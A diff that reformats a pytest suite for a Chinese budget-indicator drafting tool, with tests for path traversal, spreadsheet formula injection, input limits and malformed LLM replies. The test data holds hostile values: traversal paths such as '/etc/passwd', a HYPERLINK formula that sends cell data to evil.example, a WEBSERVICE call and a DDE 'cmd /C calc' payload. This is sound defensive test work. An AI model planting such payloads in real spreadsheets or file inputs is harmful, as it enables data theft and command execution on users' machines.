@@ -26,10 +26,10 @@ from assistant.errors import ExportError, IngestError
 from assistant.export.xlsx import write_xlsx
 from assistant.index import HashingEmbedder, open_index
 from assistant.ingest import read_filing
-from assistant.llm import LLMClient, LLMSettings
-from assistant.models import Comparator, DocKind, Indicator, Level2, Project
 from assistant.ingest.columns import is_placeholder
 from assistant.ingest.grid import title_of
+from assistant.llm import LLMClient, LLMSettings
+from assistant.models import Comparator, DocKind, Indicator, Level2, Project
 from assistant.normalize import clean, squash
 from assistant.review import report
 from assistant.review.engine import review_projects
@@ -44,8 +44,22 @@ TRAVERSAL = "x/../../../escaped/pwned"
 # --- 1. path traversal --------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("name", [TRAVERSAL, "..", "../..", "/etc/passwd", "a\\..\\..\\b", ".hidden", "CON",
-                                  "名称\x00带空字符", "很长" * 200, "  ", "a/b:c*d?e\"f<g>h|i"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        TRAVERSAL,
+        "..",
+        "../..",
+        "/etc/passwd",
+        "a\\..\\..\\b",
+        ".hidden",
+        "CON",
+        "名称\x00带空字符",
+        "很长" * 200,
+        "  ",
+        'a/b:c*d?e"f<g>h|i',
+    ],
+)
 def test_a_typed_name_becomes_one_plain_file_inside_its_folder(tmp_path, name):
     made = safe_filename(name, ".xlsx")
     assert "/" not in made and "\\" not in made and ".." not in made and not made.startswith(".")
@@ -63,8 +77,18 @@ def test_adding_a_draft_named_like_a_path_writes_inside_the_corpus(tmp_path):
     corpus.mkdir()
     brief = Brief(name=TRAVERSAL, unit_name="测试局", amount=10, year=2025, goal="测试")
     row = template_row(Level2.QUANTITY, brief, 10)
-    record = DraftRecord(id=7, brief=brief, mode="offline", model=None, notices=[], sources={}, status="open",
-                         created_by="张会计", created_at="2025-01-01T00:00:00Z", rows=[])
+    record = DraftRecord(
+        id=7,
+        brief=brief,
+        mode="offline",
+        model=None,
+        notices=[],
+        sources={},
+        status="open",
+        created_by="张会计",
+        created_at="2025-01-01T00:00:00Z",
+        rows=[],
+    )
     written = add_to_corpus(record, brief_project(brief, [row]), corpus)
     assert written.parent == corpus.resolve()
     assert not (tmp_path / "escaped").exists() and not (tmp_path.parent / "escaped").exists()
@@ -81,22 +105,54 @@ def test_an_atomic_write_does_not_create_folders(tmp_path):
 
 # --- 2. formula injection -----------------------------------------------------------------
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=WEBSERVICE(\"http://evil.example\")", "+1+1", "-2+3",
-           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1\n第二行", "＝全角等号", "正常文本", "a\x01b\x1fc"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    '=WEBSERVICE("http://evil.example")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1\n第二行",
+    "＝全角等号",
+    "正常文本",
+    "a\x01b\x1fc",
+]
 
 
 def _hostile_project(texts: list[str]) -> Project:
-    rows = [Indicator(level1=Level2.QUANTITY.level1, level2=Level2.QUANTITY, name=text, target=text,
-                      target_detail=text, scoring=text, unit="人", comparator=Comparator.GE, comparator_raw="≥",
-                      weight=10, note=text) for text in texts]
-    return Project(doc_kind=DocKind.TARGET_TABLE, unit_name="=cmd|' /C calc'!A0", year=2025, name="=1+1项目",
-                   amount=10, goal="@恶意目标", indicators=rows)
+    rows = [
+        Indicator(
+            level1=Level2.QUANTITY.level1,
+            level2=Level2.QUANTITY,
+            name=text,
+            target=text,
+            target_detail=text,
+            scoring=text,
+            unit="人",
+            comparator=Comparator.GE,
+            comparator_raw="≥",
+            weight=10,
+            note=text,
+        )
+        for text in texts
+    ]
+    return Project(
+        doc_kind=DocKind.TARGET_TABLE,
+        unit_name="=cmd|' /C calc'!A0",
+        year=2025,
+        name="=1+1项目",
+        amount=10,
+        goal="@恶意目标",
+        indicators=rows,
+    )
 
 
 def _formulas(path: Path) -> list[str]:
     with zipfile.ZipFile(path) as archive:
-        return [name for name in archive.namelist()
-                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]
+        return [
+            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
+        ]
 
 
 def _as_imported(text: str | None) -> str | None:
@@ -135,8 +191,11 @@ hostile_text = st.one_of(
 @given(texts=st.lists(hostile_text, min_size=1, max_size=4))
 def test_any_text_survives_an_export_and_import(tmp_path, texts):
     # a row that says nothing (无, -) or closes the table (合计) is not an indicator row
-    texts = [t for t in texts if not is_placeholder(clean(t)) and squash(t) not in ("合计", "总分")
-             and not title_of(clean(t))]
+    texts = [
+        t
+        for t in texts
+        if not is_placeholder(clean(t)) and squash(t) not in ("合计", "总分") and not title_of(clean(t))
+    ]
     if not texts:
         return
     project = _hostile_project(texts)
@@ -182,7 +241,7 @@ def test_too_many_sheets_and_too_big_a_file_are_refused(tmp_path):
         read_filing(many, InputLimits(max_sheets=5))
     text = tmp_path / "big.txt"
     text.write_text("x" * 3_000_000, encoding="utf-8")
-    with pytest.raises(IngestError, match="3.0 MB"):
+    with pytest.raises(IngestError, match=r"3\.0 MB"):
         read_filing(text, InputLimits(max_file_mb=2))
 
 
@@ -220,9 +279,13 @@ def mixed_folder(tmp_path, seed_paths):
     return folder
 
 
-@pytest.mark.parametrize("command", [
-    ["review", "--format", "xlsx", "--out"], ["export", "--out"],
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["review", "--format", "xlsx", "--out"],
+        ["export", "--out"],
+    ],
+)
 def test_review_and_export_write_the_good_files_and_list_the_bad(mixed_folder, tmp_path, capsys, command):
     out = tmp_path / "out.xlsx"
     code = main([*command, str(out), str(mixed_folder)])
@@ -241,8 +304,13 @@ def test_ingest_lists_skipped_files_too(mixed_folder, capsys):
 
 # --- 6. LLM faults ------------------------------------------------------------------------
 
-BRIEF = Brief(name="信访维稳专项经费", unit_name="衡阳市城市管理局", amount=12, year=2025,
-              goal="做好重大会议期间信访维稳值班、劝返和接待工作")
+BRIEF = Brief(
+    name="信访维稳专项经费",
+    unit_name="衡阳市城市管理局",
+    amount=12,
+    year=2025,
+    goal="做好重大会议期间信访维稳值班、劝返和接待工作",
+)
 
 
 @pytest.fixture(scope="module")
@@ -263,24 +331,41 @@ def fake():
 
 
 def _client(fake: FakeLLM, timeout: float, retries: int = 2) -> LLMClient:
-    return LLMClient(LLMSettings(base_url=fake.base_url, model="fake", timeout=timeout, max_retries=retries,
-                                 repair_attempts=0))
+    return LLMClient(
+        LLMSettings(base_url=fake.base_url, model="fake", timeout=timeout, max_retries=retries, repair_attempts=0)
+    )
 
 
-BODY = json.dumps({"id": "x", "object": "chat.completion", "created": 0, "model": "fake", "choices": [
-    {"index": 0, "message": {"role": "assistant", "content": json.dumps(good_rows(), ensure_ascii=False)},
-     "finish_reason": "stop"}]}, ensure_ascii=False).encode()
+BODY = json.dumps(
+    {
+        "id": "x",
+        "object": "chat.completion",
+        "created": 0,
+        "model": "fake",
+        "choices": [
+            {
+                "index": 0,
+                "message": {"role": "assistant", "content": json.dumps(good_rows(), ensure_ascii=False)},
+                "finish_reason": "stop",
+            }
+        ],
+    },
+    ensure_ascii=False,
+).encode()
 
 
-@pytest.mark.parametrize("reply", [
-    Reply(raw_body=BODY[: len(BODY) // 2]),  # truncated JSON, honest length
-    Reply(raw_body=BODY[: len(BODY) // 2], declared_length=len(BODY)),  # connection closed mid-body
-    Reply(raw_body=b"<html>502 Bad Gateway</html>"),
-    Reply(content='{"rows": "not a list"}'),  # wrong schema
-    Reply(content="抱歉，我无法完成这个请求。"),  # prose, no JSON
-    Reply(content="<think>先想一想"),  # a reasoning block that never closes
-    Reply(refusal="I cannot help with that"),
-])
+@pytest.mark.parametrize(
+    "reply",
+    [
+        Reply(raw_body=BODY[: len(BODY) // 2]),  # truncated JSON, honest length
+        Reply(raw_body=BODY[: len(BODY) // 2], declared_length=len(BODY)),  # connection closed mid-body
+        Reply(raw_body=b"<html>502 Bad Gateway</html>"),
+        Reply(content='{"rows": "not a list"}'),  # wrong schema
+        Reply(content="抱歉，我无法完成这个请求。"),  # prose, no JSON
+        Reply(content="<think>先想一想"),  # a reasoning block that never closes
+        Reply(refusal="I cannot help with that"),
+    ],
+)
 def test_a_malformed_answer_ends_in_the_offline_draft_with_a_notice(index, fake, reply):
     fake.default = lambda body: reply
     result = draft(index, BRIEF, client=_client(fake, timeout=10))
@@ -288,10 +373,14 @@ def test_a_malformed_answer_ends_in_the_offline_draft_with_a_notice(index, fake,
     assert any("离线起草" in n for n in result.notices)
 
 
-@pytest.mark.parametrize("reply", [
-    Reply(delay=30, content="{}"),  # hangs before answering
-    Reply(raw_body=BODY, trickle=1.0),  # sends its body one byte a second
-], ids=["hanging", "trickling"])
+@pytest.mark.parametrize(
+    "reply",
+    [
+        Reply(delay=30, content="{}"),  # hangs before answering
+        Reply(raw_body=BODY, trickle=1.0),  # sends its body one byte a second
+    ],
+    ids=["hanging", "trickling"],
+)
 def test_one_deadline_covers_the_whole_call_and_the_notice_tells_it(index, fake, reply):
     fake.default = lambda body: reply
     started = time.perf_counter()
